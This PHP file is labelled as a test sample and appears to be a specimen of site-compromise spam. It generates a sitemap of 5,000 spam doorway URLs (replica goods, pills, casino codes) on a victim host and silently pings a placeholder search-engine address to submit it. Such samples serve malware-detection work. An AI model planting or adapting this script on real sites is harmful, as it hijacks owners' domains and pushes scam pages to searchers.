<?php
// Test sample: generates sitemaps of thousands of spam doorway URLs on the
// victim host and pings search engines with them.
header('Content-Type: application/xml; charset=utf-8');
$kw = array('cheap-replica-bags', 'brand-watches-sale', 'discount-sneakers', 'fakepill-online', 'casino-bonus-code');
echo '<?xml version="1.0" encoding="UTF-8"?>' . "\n";
echo '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">' . "\n";
for ($i = 0; $i < 5000; $i++) {
    $u = 'http://' . $_SERVER['HTTP_HOST'] . '/?' . $kw[$i % count($kw)] . '-' . (1000 + $i) . '.html';
    echo '<url><loc>' . htmlspecialchars($u) . '</loc><lastmod>' . date('Y-m-d') . '</lastmod></url>' . "\n";
}
echo '</urlset>';
if (isset($_GET['ping'])) {
    @file_get_contents('http://www.google.example/ping?sitemap=' . urlencode('http://' . $_SERVER['HTTP_HOST'] . $_SERVER['SCRIPT_NAME']));
}
